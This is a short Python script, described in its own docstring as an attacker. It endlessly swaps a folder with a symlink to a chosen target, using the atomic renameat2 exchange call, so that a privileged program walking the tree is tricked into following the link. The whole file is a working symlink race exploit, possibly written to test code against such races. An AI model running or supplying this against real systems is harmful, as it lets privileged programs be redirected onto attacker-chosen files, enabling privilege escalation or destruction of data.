"""Swaps a folder and a link to another place, for ever, as fast as it can: an attacker in a tree that a privileged program walks.

usage: flip.py FOLDER PARKING TARGET   (PARKING: a path beside on the same volume, that does not exist; it takes whatever is not at FOLDER)
"""
import ctypes
import os
import shutil
import sys

RENAME_EXCHANGE = 2
AT_FDCWD = -100
folder, parking, target = (os.fsencode(argument) for argument in sys.argv[1:4])
libc = ctypes.CDLL(None)
first = True
while True:
    # The program may have removed the link as well: a new one is made.
    if not os.path.islink(parking) and not os.path.islink(folder):
        shutil.rmtree(parking, ignore_errors=True)
        os.symlink(target, parking)
    libc.renameat2(AT_FDCWD, folder, AT_FDCWD, parking, RENAME_EXCHANGE)
    if first:
        print("ready", flush=True)
        first = False
